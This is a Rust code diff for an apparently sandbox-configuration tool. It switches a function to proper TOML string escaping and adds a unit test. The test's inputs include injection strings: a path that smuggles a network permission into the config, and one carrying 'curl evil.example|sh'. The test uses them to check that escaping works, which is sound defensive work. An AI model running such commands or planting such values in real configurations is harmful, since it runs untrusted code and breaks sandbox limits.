@@ -3,6 +3,7 @@
 use std::path::Path;
 
 use portcullis::cell::CellUsage;
+use portcullis::escape::toml_string;
 use portcullis_learn::{CellLine, Proposal};
 
 use super::Learned;
@@ -145,8 +146,23 @@ pub(super) fn switch(line: &CellLine) -> String {
 
 /// Returns a line as a difference, with its evidence.
 pub(crate) fn described(line: &CellLine) -> String {
-    let value = escape_hidden(&line.value).into_owned();
     let remark = line.remark.map(|remark| format!("  ({remark})")).unwrap_or_default();
     let evidence: String = line.evidence.iter().map(|text| format!("\n      {}", escape_hidden(text))).collect();
-    format!("  + {} = [\"{value}\"]{remark}{evidence}", line.key.as_str())
+    format!("  + {} = [{}]{remark}{evidence}", line.key.as_str(), toml_string(&line.value))
+}
+
+#[cfg(test)]
+mod tests {
+    use portcullis_learn::CellKey;
+
+    use super::*;
+
+    #[test]
+    fn a_path_stays_one_value_and_one_word_of_what_is_shown() {
+        for path in ["/data/notes\"], network = [\"evil.example:443", "/data/a;curl evil.example|sh;#", "/data/a b\\"] {
+            let line = CellLine { key: CellKey::Read, value: path.to_owned(), evidence: Vec::new(), remark: None };
+            assert_eq!(described(&line), format!("  + read = [{}]", toml_string(path)));
+            assert_eq!(switch(&line), format!("--read '{path}'"));
+        }
+    }
 }
